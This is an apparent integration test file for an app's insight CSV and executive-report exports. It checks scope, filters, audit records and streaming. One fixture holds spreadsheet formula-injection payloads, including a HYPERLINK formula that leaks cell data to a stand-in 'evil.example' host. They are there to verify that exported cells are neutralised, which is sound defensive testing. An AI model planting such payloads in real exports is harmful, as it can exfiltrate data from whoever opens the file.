import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { and, desc, eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Me } from '../../src/contract/api/me.ts';
import type { Dashboard, ExecutiveReport } from '../../src/contract/api/reporting.ts';
import { LIMITS } from '../../src/contract/limits.ts';
import { auditEvents, eventSessions, events, insights, people } from '../../src/server/db/schema.ts';
import { INSIGHT_CSV_COLUMNS } from '../../src/server/modules/exports/exports.insights.ts';
import { pdfPlainText } from '../helpers/pdf-text.ts';
import { type Session, startStack, type TestStack } from '../helpers/stack.ts';

/**
 * The exports against an independent model of the data: which insights each reader's file must hold (scope,
 * filter, merged duplicates), what each cell says (formula-safe), the totals the dashboard shows, the audit
 * trail, and streaming (thousands of rows, a reader that goes away).
 */
const NOW = new Date('2026-11-21T12:00:00.000Z');
const NAMES = ['ari', 'ben', 'maya', 'fatima', 'gustav', 'erik', 'dana', 'victor'] as const;
type Who = (typeof NAMES)[number];
const EMAIL: Record<Who, string> = {
  ari: 'ari.levy',
  ben: 'ben.carter',
  maya: 'maya.patel',
  fatima: 'fatima.zahra',
  gustav: 'gustav.berg',
  erik: 'erik.lindqvist',
  dana: 'dana.okafor',
  victor: 'victor.chen',
};
const TEAM: Partial<Record<Who, string>> = {
  ari: 'amer',
  ben: 'amer',
  maya: 'amer',
  fatima: 'emea',
  gustav: 'emea',
};

interface Rec {
  id: string;
  who: Who;
  at: string;
  type: string;
  sentiment: string;
  priority: string;
  text: string;
  event: boolean;
  status: string | null;
  merged: boolean;
}

const NASTY = {
  title: '@SUM(1+1)',
  text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  tags: ['=cmd', 'atlas'],
  developer: { role: '+ceo', company: '-acme' },
};
const UNICODE = 'RAG für Support — 日本語 “quotes”, commas, and\nline breaks';

// biome-ignore format: one insight per line reads as a table
const DATA: [Who, string, string, string, string, string, boolean, string | null][] = [
  ['ari', '2026-11-21T09:00:00Z', 'pain_point', 'negative', 'high', 'Query latency spikes at peak', true, null],
  ['ari', '2026-11-19T10:00:00Z', 'feature_request', 'neutral', 'medium', NASTY.text, false, null],
  ['ari', '2026-10-05T10:00:00Z', 'question', 'neutral', 'low', 'Old question about indexes', false, null],
  ['ben', '2026-11-10T10:00:00Z', 'bug_report', 'negative', 'critical', 'Driver crashes on reconnect', true, 'open'],
  ['ben', '2026-11-10T11:00:00Z', 'bug_report', 'negative', 'critical', 'Same crash again', true, null],
  ['maya', '2026-11-12T10:00:00Z', 'praise', 'positive', 'low', 'Loves the schema view', false, 'done'],
  ['fatima', '2026-11-05T10:00:00Z', 'use_case', 'positive', 'high', UNICODE, true, 'in_progress'],
  ['gustav', '2026-11-07T10:00:00Z', 'feature_request', 'neutral', 'critical', 'Needs private endpoints latency', false, null],
  ['erik', '2026-11-12T10:00:00Z', 'question', 'neutral', 'medium', 'Upgrade path question', false, null],
];

let stack: TestStack;
const s = {} as Record<Who, Session>;
const idOf = {} as Record<Who, string>;
const nameOf = {} as Record<Who, string>;
const recs: Rec[] = [];
let eventId = '';
let sessionId = '';
const bulkIds: string[] = [];
const db = () => stack.db.database.db;

beforeAll(async () => {
  stack = await startStack({ now: () => NOW });
  for (const who of NAMES) {
    s[who] = await stack.signIn(`${EMAIL[who]}@example.com`);
    const me = await s[who].json<Me>('/api/v1/me');
    idOf[who] = me.person.id;
    nameOf[who] = me.person.name;
  }
  const [event] = await db()
    .insert(events)
    .values({
      name: 'DevDay Berlin',
      eventType: 'regional_dev_day',
      startsOn: '2026-11-05',
      endsOn: '2026-11-21',
    })
    .returning();
  eventId = event?.id ?? '';
  const [session] = await db().insert(eventSessions).values({ eventId, title: 'Keynote' }).returning();
  sessionId = session?.id ?? '';
  for (const [who, at, type, sentiment, priority, text, atEvent, status] of DATA)
    recs.push({
      id: randomUUID(),
      who,
      at,
      type,
      sentiment,
      priority,
      text,
      event: atEvent,
      status,
      merged: false,
    });
  for (const who of NAMES) {
    const items = recs
      .filter((r) => r.who === who)
      .map((r) => ({
        id: r.id,
        text: r.text,
        type: r.type,
        sentiment: r.sentiment,
        priority: r.priority,
        productAreas: r.text === NASTY.text ? [] : ['atlas'],
        ...(r.text === NASTY.text
          ? { title: NASTY.title, tags: NASTY.tags, developer: NASTY.developer }
          : {}),
        eventId: r.event ? eventId : null,
        sessionId: r.event ? sessionId : null,
        capturedAt: new Date(r.at).toISOString(),
      }));
    if (items.length === 0) continue;
    const res = await s[who].post('/api/v1/insights/batch', { items });
    const body = (await res.json()) as { results: { status: string }[] };
    expect(body.results.map((x) => x.status)).toEqual(items.map(() => 'created'));
  }
  for (const r of recs.filter((x) => x.status))
    await db()
      .update(insights)
      .set({
        followUp: true,
        followUpStatus: r.status as 'open',
        followUpOwnerId: idOf.maya,
        followUpIssueUrl: 'https://github.com/acme/app/issues/7',
      })
      .where(eq(insights.id, r.id));
  // Ben's "Same crash again" is merged into his first report: it is exported once, as the primary.
  const [primary, dup] = recs.filter((r) => r.who === 'ben') as [Rec, Rec];
  dup.merged = true;
  await db().update(insights).set({ mergedIntoId: primary.id }).where(eq(insights.id, dup.id));
  // The org source: Erik manages Fatima and Ben (across teams) and has no team group: his scope is his tree.
  const br = (['ari', 'ben', 'maya', 'fatima', 'gustav', 'erik'] as const).map((w) => idOf[w]);
  await db().update(people).set({ builderRelations: true }).where(inArray(people.id, br));
  await db()
    .update(people)
    .set({ managerId: idOf.erik })
    .where(inArray(people.id, [idOf.fatima, idOf.ben]));
  await db()
    .update(people)
    .set({ groups: ['builder-relations'], team: null })
    .where(eq(people.id, idOf.erik));
  // 3,000 large insights, far from the others in time, for the streaming tests.
  const filler = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(36);
  for (let chunk = 0; chunk < 6; chunk++) {
    const rows = Array.from({ length: 500 }, (_, i) => {
      const n = chunk * 500 + i;
      const id = randomUUID();
      bulkIds.push(id);
      return {
        id,
        authorId: idOf.ari,
        text: `Bulk ${n}: ${filler}`,
        type: 'other',
        sentiment: 'neutral',
        priority: 'low',
        tags: ['bulk'],
        source: 'seed' as const,
        taxonomyVersion: '2026.1',
        // Several rows share each second: the keyset must page through equal timestamps.
        capturedAt: new Date(Date.parse('2026-03-01T00:00:00Z') + Math.floor(n / 3) * 1000),
      };
    });
    await db().insert(insights).values(rows);
  }
});
afterAll(async () => {
  for (const l of stack?.logs ?? []) if (Number(l.level) >= 50) console.log(JSON.stringify(l).slice(0, 1500));
  await stack?.close();
});

type Row = Record<(typeof INSIGHT_CSV_COLUMNS)[number], string>;

async function exportCsv(who: Who, query = ''): Promise<{ response: Response; bytes: Buffer; rows: Row[] }> {
  const response = await s[who].get(`/api/v1/exports/insights.csv${query ? `?${query}` : ''}`);
  const bytes = Buffer.from(await response.arrayBuffer());
  if (response.status !== 200) throw new Error(`export ${query} → ${response.status}: ${bytes.toString()}`);
  return { response, bytes, rows: parse(bytes.toString('utf8'), { bom: true, columns: true }) as Row[] };
}

const RECENT = 'from=2026-10-01';
const SCOPE: Record<string, (r: Rec) => boolean> = {
  all: () => true,
  amer: (r) => TEAM[r.who] === 'amer',
  erikTree: (r) => ['erik', 'fatima', 'ben'].includes(r.who),
};
/** The ids a file must hold, newest first (ties: the larger id first, as the keyset orders them). */
const expected = (keep: (r: Rec) => boolean) =>
  recs
    .filter((r) => !r.merged && keep(r))
    .sort((a, b) => b.at.localeCompare(a.at) || (b.id > a.id ? 1 : -1))
    .map((r) => r.id);

describe('insights CSV', () => {
  it('is a UTF-8 CSV download of the reader’s insights, newest first, every column filled from the insight', async () => {
    const { response, bytes, rows } = await exportCsv('maya', RECENT);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="builder-insights-2026-10-01-2026-11-21.csv"',
    );
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8').split('\r\n')[0]).toBe(
      `\ufeff${INSIGHT_CSV_COLUMNS.map((c) => `"${c}"`).join(',')}`,
    );
    expect(rows.map((r) => r.id)).toEqual(expected(SCOPE.amer as (r: Rec) => boolean));

    const ben = recs.find((r) => r.text === 'Driver crashes on reconnect') as Rec;
    expect(rows.find((r) => r.id === ben.id)).toEqual({
      id: ben.id,
      captured_at: '2026-11-10T10:00:00.000Z',
      type: 'bug_report',
      product_areas: 'atlas',
      sentiment: 'negative',
      priority: 'critical',
      title: '',
      text: 'Driver crashes on reconnect',
      tags: '',
      author: nameOf.ben,
      team: 'amer',
      event: 'DevDay Berlin',
      session: 'Keynote',
      source: 'capture',
      follow_up_status: 'open',
      follow_up_owner: nameOf.maya,
      follow_up_issue_url: 'https://github.com/acme/app/issues/7',
      developer_role: '',
      developer_company: '',
    });
  });

  it('holds exactly the reader’s scope: a team, a reporting tree across teams, the whole org', async () => {
    expect((await exportCsv('maya', RECENT)).rows.map((r) => r.id)).toEqual(
      expected(SCOPE.amer as (r: Rec) => boolean),
    );
    expect((await exportCsv('ari', RECENT)).rows.map((r) => r.id)).toEqual(
      expected(SCOPE.amer as (r: Rec) => boolean),
    );
    const erik = await exportCsv('erik', RECENT);
    expect(erik.rows.map((r) => r.id)).toEqual(expected(SCOPE.erikTree as (r: Rec) => boolean));
    expect(new Set(erik.rows.map((r) => r.team))).toEqual(new Set(['amer', 'emea', '']));
    for (const who of ['victor', 'dana'] as const)
      expect((await exportCsv(who, RECENT)).rows.map((r) => r.id)).toEqual(
        expected(SCOPE.all as (r: Rec) => boolean),
      );
  });

  it('exports a merged duplicate once, as its primary', async () => {
    const ids = (await exportCsv('dana', RECENT)).rows.map((r) => r.id);
    const [primary, dup] = recs.filter((r) => r.who === 'ben') as [Rec, Rec];
    expect(ids).toContain(primary.id);
    expect(ids).not.toContain(dup.id);
  });

  it('applies the insight filter exactly as the list does', async () => {
    const cases: [string, (r: Rec) => boolean][] = [
      ['type=bug_report', (r) => r.type === 'bug_report'],
      ['priority=critical&sentiment=neutral', (r) => r.priority === 'critical' && r.sentiment === 'neutral'],
      ['q=latency', (r) => /latency/i.test(r.text)],
      ['team=emea', (r) => TEAM[r.who] === 'emea'],
      ['followUpStatus=open', (r) => r.status === 'open'],
      [`eventId=${eventId}`, (r) => r.event],
      [`authorId=${randomUUID()}`, () => false],
      ['tags=%3Dcmd,atlas', (r) => r.text === NASTY.text],
    ];
    for (const [query, keep] of cases) {
      const { rows } = await exportCsv('dana', `${RECENT}&${query}`);
      expect(
        rows.map((r) => r.id),
        query,
      ).toEqual(expected(keep));
    }
    const { rows } = await exportCsv('dana', 'from=2026-11-10&to=2026-11-12');
    expect(rows.map((r) => r.id)).toEqual(expected((r) => r.at >= '2026-11-10' && r.at < '2026-11-13'));
  });

  it('writes no cell a spreadsheet would run as a formula, and keeps every character otherwise', async () => {
    const { rows } = await exportCsv('ari', `${RECENT}&type=feature_request`);
    const nasty = rows.find((r) => r.text.includes('HYPERLINK')) as Row;
    expect(nasty).toMatchObject({
      title: `'${NASTY.title}`,
      text: `'${NASTY.text}`,
      tags: `'=cmd; atlas`,
      developer_role: "'+ceo",
      developer_company: "'-acme",
    });
    const fatima = (await exportCsv('dana', `${RECENT}&team=emea&type=use_case`)).rows[0] as Row;
    expect(fatima.text).toBe(UNICODE);
    for (const row of (await exportCsv('dana', RECENT)).rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
  });

  it('refuses bad input naming the field, and an export above the row limit with a hint, writing nothing', async () => {
    const audited = async () =>
      (await db().select().from(auditEvents).where(eq(auditEvents.action, 'report.exported'))).length;
    const before = await audited();
    for (const [query, field] of [
      ['cursor=abc', 'query.cursor'],
      ['limit=10', 'query.limit'],
      ['from=2026-02-30', 'query.from'],
      ['type=nonsense', 'query.type'],
      ['followUp=yes', 'query.followUp'],
    ]) {
      const response = await s.maya.get(`/api/v1/exports/insights.csv?${query}`);
      expect(response.status, query).toBe(400);
      expect(response.headers.get('content-type')).toContain('application/problem+json');
      const problem = (await response.json()) as { errors: { field: string }[] };
      expect(problem.errors.map((e) => e.field)).toContain(field);
    }
    const limits = LIMITS as { exportRowsMax: number };
    const max = limits.exportRowsMax;
    limits.exportRowsMax = 3;
    try {
      const response = await s.dana.get(`/api/v1/exports/insights.csv?${RECENT}`);
      expect(response.status).toBe(400);
      const problem = (await response.json()) as { title: string; detail: string; errors?: unknown };
      expect(problem.title).toBe('Export too large');
      expect(problem.detail).toMatch(/would hold 8 insights; one export holds at most 3\. Narrow the filter/);
      expect(problem.errors).toBeUndefined();
      // Within the limit, the same reader still exports.
      expect((await exportCsv('dana', `${RECENT}&type=bug_report`)).rows).toHaveLength(1);
    } finally {
      limits.exportRowsMax = max;
    }
    expect(await audited()).toBe(before + 1);
  });

  it('records every export: who, what filter, how many rows, within which scope', async () => {
    // A HEAD (a link preview, a prefetch) is not an export: nothing runs, nothing is recorded.
    const exported = () => db().select().from(auditEvents).where(eq(auditEvents.action, 'report.exported'));
    const before = (await exported()).length;
    expect((await s.erik.fetch('/api/v1/exports/insights.csv', { method: 'HEAD' })).status).toBe(404);
    expect(await exported()).toHaveLength(before);
    await exportCsv('erik', `${RECENT}&type=bug_report&sentiment=negative`);
    const [event] = await db()
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.action, 'report.exported'), eq(auditEvents.actorId, idOf.erik)))
      .orderBy(desc(auditEvents.seq))
      .limit(1);
    expect(event).toMatchObject({
      outcome: 'success',
      actorRole: 'manager',
      targetType: 'system',
      details: {
        kind: 'insights_csv',
        filters: { from: '2026-10-01', type: 'bug_report', sentiment: 'negative' },
        rows: 1,
        scope: `Your own insights, reporting tree of ${nameOf.erik}`,
      },
    });
  });

  it('streams thousands of rows complete and in order, paging through equal timestamps', async () => {
    const { response, rows } = await exportCsv('dana', 'tags=bulk');
    expect(response.headers.get('content-length')).toBeNull();
    expect(rows).toHaveLength(3000);
    expect(new Set(rows.map((r) => r.id))).toEqual(new Set(bulkIds));
    for (let i = 1; i < rows.length; i++) {
      const [a, b] = [rows[i - 1] as Row, rows[i] as Row];
      expect(a.captured_at > b.captured_at || (a.captured_at === b.captured_at && a.id > b.id)).toBe(true);
    }
    expect(rows.at(-1)?.text).toMatch(/^Bulk [012]: Lorem/);
    expect(rows[0]?.text).toMatch(/^Bulk 299[789]: Lorem/);
  });

  it('stops reading and frees the database when the reader goes away mid-export', async () => {
    const abort = new AbortController();
    const response = await s.dana.fetch('/api/v1/exports/insights.csv?tags=bulk', { signal: abort.signal });
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    abort.abort();
    await reader.cancel().catch(() => {});
    // The next export (it needs the database, a single connection on PGlite) answers promptly and completely.
    const started = Date.now();
    expect((await exportCsv('dana', `${RECENT}&type=bug_report`)).rows).toHaveLength(1);
    expect(Date.now() - started).toBeLessThan(10_000);
    await expect
      .poll(() => stack.logs.some((l) => JSON.stringify(l).includes('"outcome":"reader_gone"')))
      .toBe(true);
  });
});

describe('executive report files', () => {
  const QUERY = 'period=month&at=2026-11-15';

  it('renders the executive report as a PDF: title, scope, cards, narrative', async () => {
    const report = await s.erik.json<ExecutiveReport>(`/api/v1/reports/executive?${QUERY}`);
    const response = await s.erik.get(`/api/v1/reports/executive.pdf?${QUERY}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="builder-insights-executive-2026-11-01-2026-11-30.pdf"',
    );
    expect(response.headers.get('cache-control')).toBe('no-store');
    const pdf = Buffer.from(await response.arrayBuffer());
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const text = pdfPlainText(pdf);
    expect(text).toContain(report.title);
    expect(text).toContain(`Scope: ${report.scopeLabel}`);
    for (const card of report.cards) expect(text).toContain(`${card.label} ${card.value} ${card.previous}`);
    for (const n of report.narrative) expect(text).toContain(n.heading);
  });

  it('renders the same report as CSV rows, numbers equal to the report’s', async () => {
    const report = await s.maya.json<ExecutiveReport>(`/api/v1/reports/executive?${QUERY}&type=bug_report`);
    const response = await s.maya.get(`/api/v1/reports/executive.csv?${QUERY}&type=bug_report`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const rows = parse(Buffer.from(await response.arrayBuffer()).toString('utf8'), {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual(['section', 'key', 'label', 'value', 'previous', 'change']);
    expect(rows.find((r) => r.key === 'title')?.value).toBe(report.title);
    expect(
      rows.filter((r) => r.section === 'metric').map((r) => [r.key, Number(r.value), Number(r.previous)]),
    ).toEqual(report.cards.map((c) => [c.key, c.value, c.previous]));
    expect(rows.find((r) => r.section === 'filter' && r.key === 'type')?.value).toBe('bug_report');
  });

  it('records both exports, and refuses a bad query naming the field', async () => {
    for (const format of ['pdf', 'csv']) {
      await (await s.victor.get(`/api/v1/reports/executive.${format}?${QUERY}`)).arrayBuffer();
      const [event] = await db()
        .select()
        .from(auditEvents)
        .where(and(eq(auditEvents.action, 'report.exported'), eq(auditEvents.actorId, idOf.victor)))
        .orderBy(desc(auditEvents.seq))
        .limit(1);
      const november = recs.filter((r) => !r.merged && r.at.startsWith('2026-11')).length;
      expect(event?.details).toEqual({
        kind: `executive_${format}`,
        filters: { period: 'month', at: '2026-11-15' },
        rows: november,
        scope: 'Whole organization',
      });
    }
    const response = await s.maya.get('/api/v1/reports/executive.pdf?period=last30&from=2026-11-01');
    expect(response.status).toBe(400);
    expect(((await response.json()) as { errors: { field: string }[] }).errors[0]?.field).toBe('from');
  });
});

describe('export totals equal the dashboard’s', () => {
  const metrics = (rows: Row[]) => ({
    insights: rows.length,
    critical: rows.filter((r) => r.priority === 'critical').length,
    negative: rows.filter((r) => r.sentiment === 'negative').length,
    feature_requests: rows.filter((r) => r.type === 'feature_request').length,
    contributors: new Set(rows.map((r) => r.author)).size,
    events: new Set(rows.map((r) => r.event).filter(Boolean)).size,
    follow_ups_open: rows.filter((r) => ['open', 'in_progress'].includes(r.follow_up_status)).length,
  });

  it('for the same reader, filter and days', async () => {
    const filters = ['', '&type=bug_report', '&q=latency', '&team=amer', '&priority=critical', '&eventId='];
    for (const who of ['maya', 'erik', 'victor', 'ari'] as const)
      for (const f of filters) {
        const filter = f === '&eventId=' ? `&eventId=${eventId}` : f;
        const days = 'from=2026-10-22&to=2026-11-21';
        const dashboard = await s[who].json<Dashboard>(`/api/v1/dashboard?period=custom&${days}${filter}`);
        const { rows } = await exportCsv(who, `${days}${filter}`);
        const cards = Object.fromEntries(dashboard.cards.map((c) => [c.key, c.value]));
        expect(metrics(rows), `${who} ${filter}`).toEqual(cards);
        expect(rows.length, `${who} ${filter}`).toBeGreaterThanOrEqual(0);
      }
  });
});
